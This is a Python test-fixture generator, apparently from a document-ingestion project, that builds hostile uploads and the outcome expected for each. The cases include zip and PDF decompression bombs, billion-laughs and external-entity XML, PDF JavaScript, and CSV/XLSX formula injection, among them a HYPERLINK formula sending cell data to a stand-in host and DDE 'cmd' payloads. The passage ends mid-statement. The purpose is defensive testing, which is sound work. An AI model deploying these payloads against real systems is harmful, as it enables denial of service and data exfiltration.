"""The corpus of hostile files: what people and attackers upload, and what becomes of each.

Made by code, so that the repository holds no bomb; the largest take a second or two to make. Every case is run through
extraction alone (tests/unit/extraction/test_hostile_files.py) and, all at once, through the deployed ingestion
(tests/integration/test_hostile_files.py). ``python -m hostile FOLDER`` writes them to a folder.
"""

from __future__ import annotations

import base64
import json
import zlib
from collections.abc import Callable, Iterator
from functools import partial

from any_archive import DEVICE, SYMLINK, raw_zip, slack_export, zip_of
from hostile import packages, pdfs
from hostile.case import CANARY, EXPANDS, LANDS, Case

EMPTY = "DOCUMENT_EMPTY"
NO_TEXT = "DOCUMENT_NO_TEXT"
SCANNED = "DOCUMENT_SCANNED"
UNSUPPORTED = "DOCUMENT_TYPE_UNSUPPORTED"
MISMATCH = "DOCUMENT_TYPE_MISMATCH"
CORRUPT = "DOCUMENT_CORRUPT"
ENCRYPTED = "DOCUMENT_ENCRYPTED"
BOMB = "DOCUMENT_DECOMPRESSION_LIMIT"
ENCODING = "DOCUMENT_ENCODING_INVALID"
TOO_LARGE = "DOCUMENT_TOO_LARGE"
UNSAFE = "DOCUMENT_ARCHIVE_UNSAFE"
NAME = "OBJECT_NAME_INVALID"

PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256))
JUNK = bytes(range(256)) * 20
SENTENCE = f"The {CANARY} keeper of the light writes the log book every evening. "


def _of(content: bytes | str) -> Callable[[], bytes]:
    data = content.encode() if isinstance(content, str) else content
    return lambda: data


def _empty() -> Iterator[Case]:
    suffixes = ("txt", "md", "html", "csv", "json", "jsonl", "eml", "vtt", "srt", "py", "pdf", "docx", "pptx", "xlsx")
    for suffix in (*suffixes, "zip"):
        yield Case(f"empty/nothing.{suffix}", "no bytes", _of(b""), EMPTY)
    for number, suffix in enumerate(("txt", "md", "html", "csv", "jsonl", "vtt", "py")):
        yield Case(f"empty/blank.{suffix}", "white space", _of(" \n\t\r\n" * (200 + number)), NO_TEXT)
    yield Case("empty/mark.txt", "a byte order mark alone", _of(b"\xef\xbb\xbf"), NO_TEXT)
    yield Case("empty/mark16.txt", "a UTF-16 mark alone", _of(b"\xff\xfe"), NO_TEXT)
    yield Case("empty/invisible.txt", "zero-width characters", _of("\u200b\u2060\ufeff" * 500), NO_TEXT)
    yield Case("empty/delimiters.csv", "cells without content", _of(",,,,\n" * 900), NO_TEXT)
    yield Case("empty/page.pdf", "a page without text", lambda: pdfs.one_page("x", o4=pdfs.stream(b"")), NO_TEXT)
    yield Case("empty/paragraphs.docx", "a document without text", lambda: packages.word("", " "), NO_TEXT)
    yield Case("empty/deck.pptx", "no slide", packages.presentation, NO_TEXT)
    yield Case("empty/rows.xlsx", "1,048,576 rows without a cell", packages.empty_rows, NO_TEXT)
    yield Case("empty/sheet.xlsx", "no row", lambda: packages.workbook(b""), NO_TEXT)
    yield Case("empty/archive.zip", "no entry", zip_of, NO_TEXT)
    yield Case("empty/folders.zip", "folders alone", lambda: zip_of(("a/", b""), ("a/b/", b"")), NO_TEXT)
    yield Case(
        "empty/litter.zip", "what macOS leaves", lambda: zip_of(("__MACOSX/._a", b"x"), (".DS_Store", b"")), NO_TEXT
    )


def _wrong_types() -> Iterator[Case]:
    gzip = b"\x1f\x8b\x08" + bytes(7) + zlib.compress(SENTENCE.encode() * 9)
    disguised: list[tuple[str, str, bytes | Callable[[], bytes], str]] = [
        ("pdf.docx", "a PDF as DOCX", lambda: pdfs.text_pdf("As a DOCX."), MISMATCH),
        ("docx.pdf", "a DOCX as PDF", lambda: packages.word("As a PDF."), MISMATCH),
        ("docx.xlsx", "a DOCX as XLSX", lambda: packages.word("As an XLSX."), MISMATCH),
        ("xlsx.pptx", "an XLSX as PPTX", lambda: packages.workbook(packages.row(1, "As a PPTX.")), MISMATCH),
        ("pdf.md", "a PDF as Markdown", lambda: pdfs.text_pdf("As Markdown."), MISMATCH),
        ("pdf.csv", "a PDF as CSV", lambda: pdfs.text_pdf("As CSV."), MISMATCH),
        ("image.pdf", "a PNG as PDF", PNG + b"1", MISMATCH),
        ("image.txt", "a PNG as text", PNG + b"2", MISMATCH),
        ("image.html", "a PNG as HTML", PNG + b"3", MISMATCH),
        ("image.json", "a PNG as JSON", PNG + b"4", MISMATCH),
        ("image.png", "a PNG", PNG + b"5", UNSUPPORTED),
        ("image", "a PNG without a name", PNG + b"6", UNSUPPORTED),
        ("text.pdf", "text as PDF", b"No PDF at all.", MISMATCH),
        ("text.docx", "text as DOCX", b"No DOCX at all.", MISMATCH),
        ("text.xlsx", "text as XLSX", b"a,b\n1,2\n", MISMATCH),
        ("text.zip", "text as ZIP", b"No ZIP at all.", MISMATCH),
        ("gzip.csv", "gzip as CSV", gzip + b"1", MISMATCH),
        ("gzip.zip", "gzip as ZIP", gzip + b"2", MISMATCH),
        ("program.txt", "a program as text", b"\x7fELF" + JUNK, MISMATCH),
        ("program.exe", "a program", b"MZ\x90\x00" + JUNK, UNSUPPORTED),
        ("legacy.doc", "a Word 97 file", lambda: packages.legacy_office("1"), UNSUPPORTED),
        ("legacy.xlsx", "an Excel 97 file as XLSX", lambda: packages.legacy_office("2"), MISMATCH),
        ("letter.rtf", "RTF", b"{\\rtf1 " + SENTENCE.encode() + b"}", UNSUPPORTED),
        ("junk.bin", "bytes of no format", JUNK + b"1", UNSUPPORTED),
        ("junk.md", "bytes of no format as Markdown", JUNK + b"2", UNSUPPORTED),
        ("archive.docx", "a ZIP archive as DOCX", lambda: zip_of(("a.txt", b"As a DOCX.")), UNSUPPORTED),
        ("archive.txt", "a ZIP archive as text", lambda: zip_of(("a.txt", b"As text.")), MISMATCH),
        ("book.zip", "an EPUB as ZIP", lambda: zip_of(("mimetype", b"application/epub+zip")), MISMATCH),
        ("program.jar", "Java", lambda: zip_of(("META-INF/MANIFEST.MF", b"x"), ("A.class", b"x")), UNSUPPORTED),
        ("key.pem", "a key", b"-----BEGIN PRIVATE KEY-----\nMC4CAQ\n-----END PRIVATE KEY-----\n", UNSUPPORTED),
    ]
    for name, about, content, outcome in disguised:
        make = _of(content) if isinstance(content, bytes) else content
        yield Case(f"types/{name}", about, make, outcome)
    page = f"<!doctype html><h1>Tides</h1><p>{SENTENCE}</p>"
    yield Case("types/page", "HTML without an extension", _of(page + "1"), LANDS, says="log book every", hides="<h1>")
    yield Case("types/page.txt", "HTML as text stays as it is", _of(page + "2"), LANDS, says="<h1>Tides</h1>")
    yield Case(
        "types/drawing.svg",
        "billion laughs in an SVG: text like any other",
        _of(packages.LAUGHS + b"<svg xmlns='http://www.w3.org/2000/svg'><text>&a9;</text></svg>"),
        LANDS,
        says="&a9;",
    )


def _broken() -> Iterator[Case]:
    cut_docx = packages.word(*(f"Paragraph {n} of pier three." for n in range(300)))
    shared = b"<si><t>gauge</t></si>" * 400
    cut_xlsx = packages.workbook(packages.row(1, "x"), shared=shared)
    yield Case("broken/cut.pdf", "cut off", lambda: pdfs.text_pdf(f"Cut {CANARY}.")[:-300], CORRUPT)
    yield Case("broken/cut-early.pdf", "cut off in its first object", lambda: pdfs.text_pdf("Early.")[:120], CORRUPT)
    yield Case("broken/cut.docx", "cut off", lambda: cut_docx[: len(cut_docx) // 2], CORRUPT)
    yield Case("broken/cut.xlsx", "cut off", lambda: cut_xlsx[: len(cut_xlsx) // 2], CORRUPT)
    yield Case("broken/cut.pptx", "cut off", lambda: packages.slides("x")[:9_000], CORRUPT)
    yield Case("broken/cut.zip", "cut off", lambda: zip_of(("a.txt", SENTENCE.encode() * 40))[:-40], CORRUPT)
    yield Case(
        "broken/checksum.zip",
        "a member's checksum is wrong",
        lambda: zip_of(("a.txt", b"checked text")).replace(
            zlib.crc32(b"checked text").to_bytes(4, "little"), b"\1\2\3\4"
        ),
        CORRUPT,
    )
    yield Case("broken/xml.docx", "no XML", lambda: packages.package(
        packages.word("x"), **{"word/document.xml": b"<w:document " + CANARY.encode()}), CORRUPT)  # fmt: skip
    yield Case("broken/parts.docx", "no main part", lambda: zip_of(
        ("[Content_Types].xml", b"<Types/>"), ("word/other.xml", b"<a/>")), CORRUPT)  # fmt: skip
    yield Case("broken/parts.xlsx", "no main part", lambda: zip_of(
        ("[Content_Types].xml", b"<Types/>"), ("xl/other.xml", b"<a/>")), CORRUPT)  # fmt: skip
    yield Case("broken/parts.pptx", "no main part", lambda: zip_of(
        ("[Content_Types].xml", b"<Types/>"), ("ppt/other.xml", b"<a/>")), CORRUPT)  # fmt: skip
    yield Case(
        "broken/sheet.xlsx", "half a sheet", lambda: packages.workbook(packages.row(1, "a", "b") + b"<row"), CORRUPT
    )
    yield Case("broken/object.json", "half an object", _of('{"pier": 7, "keeper": "' + CANARY), CORRUPT)
    yield Case("broken/lines.jsonl", "bad lines among good ones", _of(
        '{"pier": 7}\n{"pier": 8, "note": "' + CANARY + '\n{"pier": 9}\n'), CORRUPT)  # fmt: skip
    yield Case("broken/cues.vtt", "no cue", _of("WEBVTT\n\nwords without any time\n"), CORRUPT)
    yield Case("broken/cues.srt", "no cue", _of("1\nwords without any time\n"), CORRUPT)
    yield Case("broken/chat.json", "a conversation with a bad message", _of(json.dumps(
        {"format": "omnilake.conversation/1", "messages": [{"text": CANARY, "posted_at": "yesterday"}]})),
        CORRUPT)  # fmt: skip


def _encrypted() -> Iterator[Case]:
    yield Case("encrypted/a.pdf", "needs a password", pdfs.encrypted, ENCRYPTED)
    yield Case(
        "encrypted/restricted.pdf", "only printing is restricted", pdfs.only_restricted, LANDS, says="may be read"
    )
    for kind in ("docx", "xlsx", "pptx"):
        yield Case(f"encrypted/a.{kind}", "needs a password", partial(packages.encrypted_office, kind), ENCRYPTED)
    yield Case("encrypted/a.zip", "a member needs a password", lambda: raw_zip(
        [(b"a.txt", b"not really encrypted")], flags=1), ENCRYPTED)  # fmt: skip
    yield Case("encrypted/strong.zip", "strongly encrypted", lambda: raw_zip([(b"a.txt", b"x")], flags=0x41), ENCRYPTED)
    yield Case("encrypted/within.zip", "an encrypted archive beside a good file", lambda: zip_of(
        ("good.txt", b"The good neighbour of a locked box lies at pier twelve."),
        ("locked.zip", raw_zip([(b"b.txt", b"x")], flags=1))), EXPANDS,
        members={"good.txt": LANDS, "locked.zip": ENCRYPTED})  # fmt: skip


def deflated(data: bytes) -> bytes:
    packer = zlib.compressobj(9, wbits=-15)
    return packer.compress(data) + packer.flush()


def _bombs() -> Iterator[Case]:
    yield Case("bombs/ratio.docx", "300 MB in some hundred kilobytes", lambda: packages.bomb("word/document.xml"), BOMB)
    yield Case("bombs/ratio.pptx", "a part of 300 MB", lambda: packages.bomb("ppt/slides/slide1.xml"), BOMB)
    yield Case("bombs/ratio.xlsx", "a part of 300 MB", lambda: packages.bomb("xl/worksheets/sheet1.xml"), BOMB)
    yield Case("bombs/ratio.zip", "a member of 300 MB", lambda: packages.bomb("a.txt").replace(b"[C", b"-C"), BOMB)
    yield Case("bombs/entries.zip", "5,001 members", lambda: zip_of(*((f"{n}.txt", b"") for n in range(5_001))), BOMB)
    yield Case(
        "bombs/many-entries.zip", "60,000 members", lambda: raw_zip((b"%d" % n, b"") for n in range(60_000)), BOMB
    )
    yield Case("bombs/overlap.zip", "members share their packed bytes", lambda: raw_zip(
        [(b"%d" % n, deflated(b"overlap" * 9_000)) for n in range(200)], method=8, share=True), BOMB)  # fmt: skip
    yield Case("bombs/liar.zip", "a member has more bytes than the directory says", _liar, CORRUPT)
    yield Case("bombs/hidden.zip", "a directory whose size only ZIP64 tells", hidden_directory, BOMB)
    yield Case("bombs/nested.zip", "an archive in an archive in an archive", lambda: zip_of(
        ("1.zip", zip_of(("2.zip", zip_of(("a.txt", b"deep down")))))), UNSAFE)  # fmt: skip
    yield Case("bombs/wide.zip", "forty archives of two hundred members", lambda: zip_of(
        *((f"{n}.zip", zip_of(*((f"{m}.txt", b"") for m in range(200)))) for n in range(40))), BOMB)  # fmt: skip
    yield Case("bombs/method.zip", "packed by LZMA", lambda: raw_zip([(b"a.txt", b"x")], method=14), UNSUPPORTED)
    yield Case("bombs/stream.pdf", "a page that unpacks to 300 MB", pdfs.bomb_stream, BOMB)
    yield Case("bombs/twice.pdf", "a page packed twice", pdfs.twice_packed_bomb, BOMB)
    laughs, spy = packages.LAUGHS, packages.SPY
    yield Case("bombs/laughs.docx", "billion laughs", lambda: packages.word_of(
        packages.word_paragraph(b"&a9;"), laughs), CORRUPT)  # fmt: skip
    yield Case(
        "bombs/laughs.xlsx",
        "billion laughs",
        lambda: packages.workbook(
            b'<row r="1"><c r="A1" t="s"><v>0</v></c></row>', shared=b"<si><t>&a9;</t></si>", prolog=laughs
        ),
        CORRUPT,
    )
    yield Case("bombs/laughs.pptx", "billion laughs", lambda: packages.slide_with(laughs, b"&a9;"), CORRUPT)
    yield Case("bombs/laughs.html", "billion laughs, of which HTML knows nothing", _of(
        laughs + b"<html><p>The laughing &a9; gull</p></html>"), LANDS, says="gull", hides=CANARY * 2)  # fmt: skip
    yield Case(
        "bombs/spy.docx",
        "an external entity",
        lambda: packages.word_of(packages.word_paragraph(b"Spied at pier two: &spy;"), spy),
        LANDS,
        says="Spied at pier two",
        hides="root:",
    )
    yield Case("bombs/spy.pptx", "an external entity", lambda: packages.slide_with(
        spy, b"Spied at pier five: &spy;"), LANDS, says="Spied at pier five", hides="root:")  # fmt: skip
    yield Case("bombs/spy.xlsx", "an external entity", lambda: packages.workbook(
        b'<row r="1"><c r="A1" t="s"><v>0</v></c></row>', shared=b"<si><t>Spied: &spy;</t></si>", prolog=spy),
        CORRUPT)  # fmt: skip


def _liar() -> bytes:
    data = bytearray(zip_of(("a.txt", SENTENCE.encode() * 4_000)))
    entry = data.rfind(b"PK\x01\x02")
    data[entry + 24 : entry + 28] = (100).to_bytes(4, "little")
    return bytes(data)


def hidden_directory(entries: int = 60_000) -> bytes:
    """A ZIP file whose end record says that its directory is empty; the ZIP64 record has its true size."""
    data = raw_zip((b"z%d" % n, b"") for n in range(entries))
    end = data.rfind(b"PK\x05\x06")
    size, offset = (int.from_bytes(data[end + at : end + at + 4], "little") for at in (12, 16))
    told = b"".join(number.to_bytes(8, "little") for number in (entries, entries, size, offset))
    end64 = b"PK\x06\x06" + (44).to_bytes(8, "little") + bytes(12) + told
    locator = b"PK\x06\x07" + bytes(4) + end.to_bytes(8, "little") + (1).to_bytes(4, "little")
    return data[:end] + end64 + locator + b"PK\x05\x06" + bytes(18)


def _pdf() -> Iterator[Case]:
    yield Case("pdf/pages.pdf", "10,000 pages; 5,000 are allowed", pdfs.many_pages, TOO_LARGE)
    yield Case("pdf/count.pdf", "it says that it has a thousand million pages", lambda: pdfs.many_pages(
        3, 1_000_000_000, "Three pages of pier six."), LANDS, says="Three pages")  # fmt: skip
    yield Case("pdf/few.pdf", "it says that it has one page of three", lambda: pdfs.many_pages(
        3, 1, "None is lost."), LANDS, says="None is lost.\n\nNone is lost.\n\nNone is lost.")  # fmt: skip
    yield Case("pdf/tree.pdf", "a loop in the tree of its pages", pdfs.looping_tree, CORRUPT)
    yield Case("pdf/itself.pdf", "a tree of pages that holds itself", pdfs.tree_of_itself, CORRUPT)
    yield Case("pdf/references.pdf", "an object that is itself", pdfs.looping_references, NO_TEXT)
    yield Case("pdf/revisions.pdf", "revisions in a loop", pdfs.looping_revisions, LANDS, says="pier four")
    yield Case("pdf/form.pdf", "a form that draws itself", pdfs.looping_form, LANDS, says="draws itself")
    yield Case("pdf/deep.pdf", "50,000 arrays within each other", pdfs.deep_arrays, CORRUPT)
    yield Case("pdf/script.pdf", "JavaScript", pdfs.with_script, LANDS, says="never run", hides="hidden-script")
    yield Case("pdf/map.pdf", "a character map of millions", pdfs.wide_character_map, BOMB)


def _text() -> Iterator[Case]:
    utf16 = f"Ohne Zeichen am Anfang: {SENTENCE}äöü".encode("utf-16-le")
    yield Case("text/utf16.txt", "UTF-16 without a mark", _of(utf16), LANDS, says="äöü")
    yield Case(
        "text/utf16be.txt",
        "big-endian UTF-16 without a mark",
        _of(f"Big: {SENTENCE}ß".encode("utf-16-be")),
        LANDS,
        says="ß",
    )
    yield Case("text/odd16.txt", "UTF-16 with half a character", _of(b"\xff\xfeh\x00i\x00\x00"), ENCODING)
    yield Case(
        "text/utf32.txt", "UTF-32", _of(("Pier fourteen. " + SENTENCE).encode("utf-32")), LANDS, says="Pier fourteen"
    )
    yield Case("text/marks.txt", "byte order marks in the middle", _of(
        "\ufeffTwo \ufefffiles \ufeffput together at pier one."), LANDS, says="Two files put together")  # fmt: skip
    yield Case(
        "text/false-mark.txt",
        "a mark of UTF-16 before UTF-8",
        _of(b"\xff\xfe" + "Grüße aus dem Hafen!".encode()),
        ENCODING,
    )
    yield Case("text/mixed.txt", "UTF-8 and Windows-1252 in one file", _of(
        "Grüße vom Pier. ".encode() * 9 + "Grüße vom Kai. ".encode("cp1252") * 9), ENCODING)  # fmt: skip
    yield Case(
        "text/invalid.md",
        "invalid UTF-8 behind a mark",
        _of(b"\xef\xbb\xbf" + SENTENCE.encode() * 5 + b"\xff\xfe\xc3("),
        ENCODING,
    )
    yield Case(
        "text/surrogates.txt",
        "lone surrogates, as some databases write them",
        _of(b"half a seal \xed\xa0\xbe " * 30),
        ENCODING,
    )
    yield Case(
        "text/overlong.txt",
        "overlong UTF-8",
        _of("Grüße, ".encode() * 30 + b"slash \xc0\xaf and dot \xc0\xae."),
        ENCODING,
    )
    yield Case("text/french.txt", "one of several legacy encodings", _of(
        "L'élève était très fâché à la fenêtre. ".encode("cp1252") * 40), ENCODING)  # fmt: skip
    yield Case("text/nul.txt", "some NULs", _of(SENTENCE * 20 + "pier\x00fifteen"), LANDS, says="pierfifteen")
    yield Case("text/nuls.txt", "mostly NULs", _of(bytes(5_000) + SENTENCE.encode()), UNSUPPORTED)
    yield Case(
        "text/controls.txt",
        "escape sequences of a terminal",
        _of("\x1b[31mThe red lamp\x1b[0m is at pier sixteen.\r\n" * 9 + "\x07"),
        LANDS,
        says="The red lamp",
        hides="\x1b",
    )
    yield Case("text/override.txt", "right-to-left override", _of(
        "The file \u202egpj.exe\u202c lies at pier seventeen."), LANDS, says="\u202egpj.exe\u202c")  # fmt: skip
    yield Case("text/homoglyphs.txt", "Cyrillic letters that look Latin", _of(
        "The раураl invoice lies at pier eighteen."), LANDS, says="раураl")  # fmt: skip
    yield Case("text/marked.txt", "hundreds of accents on a letter", _of(
        "s" + "\u0301" * 3_000 + "eal at pier nineteen"), LANDS, says="eal at pier nineteen")  # fmt: skip
    yield Case(
        "text/line-ends.txt",
        "all kinds of line ends",
        _of("one\rtwo\r\nthree\x0bfour\x0cfive\x85six\u2028seven\u2029eight"),
        LANDS,
        says="one\ntwo\nthree\nfour\nfive\nsix\nseven\neight",
    )
    yield Case("text/line.txt", "one line of 20 MB", lambda: b"water " * 3_400_000, LANDS, lands_slowly=True)
    yield Case("text/word.txt", "one word of 20 MB", lambda: b"w" * 20_000_000, LANDS, lands_slowly=True)
    yield Case(
        "text/blank-lines.txt",
        "ten million empty lines",
        lambda: b"top\n" + b"\n" * 10_000_000 + b"end",
        LANDS,
        says="end",
    )
    yield Case("text/colons.txt", "a million colons", lambda: b"A:" * 1_000_000 + b" x", LANDS, lands_slowly=True)
    yield Case("text/list.md", "a list 2,000 deep", lambda: b"".join(
        b" " * 2 * n + b"- x\n" for n in range(2_000)), LANDS, lands_slowly=True)  # fmt: skip
    yield Case(
        "text/quote.md",
        "quotes 20,000 deep",
        lambda: b">" * 20_000 + b" deep " + CANARY.encode(),
        LANDS,
        says="deep",
        lands_slowly=True,
    )
    yield Case(
        "text/brackets.md",
        "100,000 open brackets",
        lambda: b"# " + b"[" * 100_000 + b"\n\nPier.",
        LANDS,
        says="Pier.",
        lands_slowly=True,
    )
    yield Case(
        "text/front.md", "front matter without an end", _of("---\ntitle: x\n" + SENTENCE), LANDS, says="log book"
    )


def _csv() -> Iterator[Case]:
    formula = '=HYPERLINK("http://x.example/?"&A1,"click")'
    yield Case("csv/formulas.csv", "formulas that a spreadsheet would run stay text", _of(
        'name,note\nann,"' + formula.replace('"', '""') + "\"\nbo,=cmd|' /C calc'!A0\ncy,@SUM(1+1)\ndi,-2+3+cmd\n"),
        LANDS, says=formula)  # fmt: skip
    yield Case("csv/columns.csv", "100,000 columns", lambda: (
        ",".join(f"c{n}" for n in range(100_000)) + "\n" + ",".join("1" for _ in range(100_000)) + "\n").encode(),
        LANDS, lands_slowly=True)  # fmt: skip
    yield Case("csv/rows.csv", "half a million rows", lambda: b"pier,level\n" + b"7,3.14\n" * 500_000, TOO_LARGE)
    yield Case("csv/ragged.csv", "rows of all lengths", _of(
        "pier,level\n1\n2,3,4,5,6\n\n,,,\n7,8\n"), LANDS, says="pier: 7; level: 8")  # fmt: skip
    yield Case("csv/quote.csv", "a quotation mark that never ends", _of(
        'pier,note\n1,"never ends\n2,second\n3,third\n'), LANDS, says="third")  # fmt: skip
    yield Case("csv/cell.csv", "a cell of 5 MB", lambda: b'pier,note\n1,"' + b"note " * 1_000_000 + b'"\n', LANDS,
               lands_slowly=True)  # fmt: skip
    yield Case("csv/nul.csv", "NULs", _of(b"pier,level\n7\x00,3\n8,4\n" + b"9,5\n" * 40), LANDS, says="level: 3")
    yield Case(
        "csv/quotes.csv", "a million quotation marks", lambda: b"a,b\n" + b'"' * 1_000_000, LANDS, lands_slowly=True
    )


def _html() -> Iterator[Case]:
    yield Case("html/deep.html", "100,000 divs within each other", lambda: b"<div>" * 100_000 + b"deep", CORRUPT)
    yield Case("html/deep-inline.html", "100,000 open tags", lambda: b"<b>" * 100_000 + CANARY.encode(), CORRUPT)
    yield Case(
        "html/script.html", "a script alone", _of(f"<html><body><script>{CANARY}()</script></body></html>"), NO_TEXT
    )
    yield Case("html/hidden.html", "hidden text", _of(
        "<p>Seen at pier twenty.</p><p style='display:none'>unseen</p><template>unseen</template>"), LANDS,
        says="Seen at pier twenty", hides="unseen")  # fmt: skip
    yield Case("html/comment.html", "a comment that never ends", _of(f"<p>Before the comment.</p><!-- {CANARY}"), LANDS,
               says="Before the comment.")  # fmt: skip
    yield Case("html/tables.html", "500 tables within each other", lambda: b"<table><tr><td>" * 500 + b"inmost", LANDS,
               says="inmost")  # fmt: skip
    yield Case(
        "html/span.html",
        "a cell over a thousand million columns",
        _of("<table><tr><th>a<th>b<tr><td colspan=1000000000 rowspan=1000000000>wide<td>x</table>"),
        LANDS,
        says="wide",
    )
    yield Case("html/attributes.html", "a tag of 200,000 attributes", lambda: b"<p " + b" ".join(
        b"a%d=1" % n for n in range(200_000)) + b">Many attributes.</p>", CORRUPT)  # fmt: skip
    yield Case("html/size.html", "33 MB of markup", lambda: b"<p>x</p>" * 4_400_000, TOO_LARGE)
    yield Case("html/entities.html", "invalid character references", _of(
        "<p>a&#0;b&#xD800;c&#1114112;d&nosuch;e at pier thirty</p>"), LANDS, says="at pier thirty")  # fmt: skip
    yield Case("html/charset.html", "a wrong declaration", _of(
        b'<meta charset="utf-16"><p>' + "Der Hafen grüßt.".encode() + b"</p>"), LANDS,
        says="Der Hafen grüßt.")  # fmt: skip
    yield Case("html/base64.html", "an image of 3 MB within the page", lambda: (
        b"<p>A picture.</p><img src='data:image/png;base64," + base64.b64encode(bytes(3_000_000)) + b"'>"), LANDS,
        says="A picture.", hides="AAAA")  # fmt: skip


def _office() -> Iterator[Case]:
    yield Case("office/deep.docx", "20,000 tables within each other", packages.deep_tables, CORRUPT)
    yield Case("office/attributes.docx", "200,000 attributes", packages.many_attributes, LANDS, says="Many attributes")
    yield Case("office/styles.docx", "styles in a loop", packages.looping_styles, LANDS, says="Pier ten")
    yield Case(
        "office/far.xlsx", "a cell in each corner of the largest sheet", packages.far_cells, LANDS, says="far away"
    )
    yield Case("office/wide.xlsx", "rows of 16,384 columns", packages.wide_rows, BOMB)
    yield Case("office/formulas.xlsx", "a formula that would start a program", lambda: packages.workbook(
        packages.row(1, "pier", "note") + b'<row r="2"><c r="A2"><v>7</v></c><c r="B2" t="str">'
        b"<f>cmd|'/C calc'!A0</f><v>harmless value</v></c></row>"), LANDS, says="harmless value",
        hides="calc")  # fmt: skip
    yield Case("office/index.xlsx", "a text that is not in the list of texts", lambda: packages.workbook(
        b'<row r="1"><c r="A1" t="s"><v>99</v></c></row>', shared=b"<si><t>only one</t></si>"), CORRUPT)  # fmt: skip
    yield Case("office/groups.pptx", "5,000 groups of shapes within each other", packages.deep_groups, CORRUPT)


def _json() -> Iterator[Case]:
    yield Case("json/deep.json", "100,000 lists within each other", lambda: b"[" * 100_000 + b"]" * 100_000, CORRUPT)
    yield Case(
        "json/deep-object.json",
        "objects nested 100,000 deep",
        lambda: b'{"a":' * 100_000 + b"1" + b"}" * 100_000,
        CORRUPT,
    )
    yield Case("json/number.json", "a number of 100,000 digits", lambda: b'{"gauge": ' + b"7" * 100_000 + b"}", LANDS,
               lands_slowly=True)  # fmt: skip
    yield Case(
        "json/nan.json",
        "NaN and infinity",
        _of('{"level": NaN, "depth": -Infinity, "pier": "forty"}'),
        LANDS,
        says="forty",
    )
    yield Case(
        "json/surrogates.json",
        "half an emoji",
        _of('{"seal": "cut \\ud83e at pier forty-one"}'),
        LANDS,
        says="pier forty-one",
    )
    yield Case(
        "json/keys.json",
        "a key twice",
        _of('{"pier": "first", "pier": "last of forty-two"}'),
        LANDS,
        says="last of forty-two",
    )
    yield Case("json/nul.json", "an escaped NUL", _of('{"pier": "forty\\u0000three"}'), LANDS, says="fortythree")
    yield Case("json/prototype.json", "names with a meaning in JavaScript", _of(
        '{"__proto__": {"admin": true}, "constructor": "pier forty-four"}'), LANDS, says="pier forty-four")  # fmt: skip
    yield Case("json/slack.json", "a day of Slack with fields of all types", _of(json.dumps([
        {"type": "message", "ts": "1772700000.000100", "user": 5, "text": "The odd message of pier forty-five",
         "files": "x", "attachments": [1], "blocks": {"a": 1}, "thread_ts": []}])), LANDS,
        says="odd message")  # fmt: skip


def _mail() -> Iterator[Case]:
    head = "From: ann@example.com\nTo: bo@example.com\nSubject: Tides\nDate: Thu, 5 Mar 2026 08:00:00 +0000\n"

    def nested(depth: int) -> bytes:
        opened = "".join(f'Content-Type: multipart/mixed; boundary="b{n}"\n\n--b{n}\n' for n in range(depth))
        return (head + opened + f"Content-Type: text/plain\n\ndeep {CANARY}\n").encode()

    def forwarded(depth: int) -> bytes:
        return (head + "Content-Type: message/rfc822\n\n" * depth + f"\ndeep {CANARY}\n").encode()

    yield Case("mail/nested.eml", "1,000 parts within each other", lambda: nested(1_000), CORRUPT)
    yield Case("mail/forwarded.eml", "1,000 mails within each other", lambda: forwarded(1_000), CORRUPT)
    yield Case("mail/parts.eml", "20,000 parts beside each other", lambda: (
        head + 'Content-Type: multipart/mixed; boundary="b"\n\n'
        + "".join(f"--b\nContent-Type: application/x-{n}\n\nx\n" for n in range(20_000))
        + "--b\nContent-Type: text/plain\n\nThe last part, of pier fifty.\n--b--\n").encode(), LANDS,
        says="pier fifty", lands_slowly=True)  # fmt: skip
    yield Case(
        "mail/base64.eml",
        "broken base64",
        _of(head + "Content-Type: text/plain\nContent-Transfer-Encoding: base64\n\nVGhlIHRp!!!ZGUgaXMgaGlnaC4\n"),
        LANDS,
    )
    yield Case("mail/charset.eml", "a character set that there is not", _of(
        head + "Content-Type: text/plain; charset=x-nonsense\n\nThe tide at pier fifty-one is low.\n"), LANDS,
        says="pier fifty-one")  # fmt: skip
    yield Case("mail/headers.eml", "headers alone", _of(head), LANDS, says="Tides")
    yield Case("mail/encoded.eml", "a subject of 20,000 encoded words", lambda: (
        head.replace("Tides", "=?utf-8?b?w6Q=?= " * 20_000) + "\nThe body of pier fifty-two.\n").encode(), LANDS,
        says="pier fifty-two", lands_slowly=True)  # fmt: skip
    yield Case("mail/none.eml", "no mail at all", _of("Just a letter from pier fifty-three.\n"), MISMATCH)
    yield Case("mail/boundary.eml", "parts without an end", _of(
        head + 'Content-Type: multipart/mixed; boundary="b"\n\n--b\n\nThe part of pier fifty-four.\n'), LANDS,
        says="pier fifty-four")  # fmt: skip


def _transcripts() -> Iterator[Case]:
    yield Case("transcripts/times.vtt", "overlapping and backward times", _of(
        "WEBVTT\n\n00:10.000 --> 00:05.000\n<v Ann>Backwards at pier sixty.\n\n"
        "00:01.000 --> 99:59.999\n<v Bo>All the time.\n\n00:02.000 --> 00:03.000\n<v Ann>Within.\n"), LANDS,
        says="Backwards at pier sixty.")  # fmt: skip
    yield Case("transcripts/negative.vtt", "a negative time beside a good one", _of(
        "WEBVTT\n\n-00:01.000 --> 00:02.000\nlost in time\n\n00:03.000 --> 00:04.000\nPier sixty-one.\n"), LANDS,
        says="Pier sixty-one.")  # fmt: skip
    yield Case("transcripts/tags.vtt", "100,000 open tags", lambda: (
        b"WEBVTT\n\n00:01.000 --> 00:02.000\n" + b"<v " * 100_000 + b"\n\n00:03.000 --> 00:04.000\nEnd.\n"), LANDS,
        says="End.", lands_slowly=True)  # fmt: skip
    yield Case("transcripts/hours.srt", "a time beyond all clocks", _of(
        "1\n9999:59:59,999 --> 9999:59:59,999\nThe end of all piers.\n"), LANDS, says="end of all piers")  # fmt: skip


def _code() -> Iterator[Case]:
    yield Case(
        "code/nul.py",
        "NULs in a program",
        _of("def pier():\n    return 'the berth'\n\n\n" * 9 + "x = 'seventy\x00one'\n"),
        LANDS,
        says="seventyone",
    )
    yield Case("code/deep.py", "a million open brackets", lambda: b"x = " + b"(" * 1_000_000, LANDS, lands_slowly=True)
    yield Case("code/deep.js", "5,000 functions within each other", lambda: (
        b"".join(b"function f%d() {\n" % n for n in range(5_000)) + b"}" * 5_000), LANDS,
        lands_slowly=True)  # fmt: skip
    yield Case("code/minified.js", "a program of 3 MB on one line", lambda: (
        b"function a(b){return b+1};" * 120_000), LANDS, lands_slowly=True)  # fmt: skip
    yield Case(
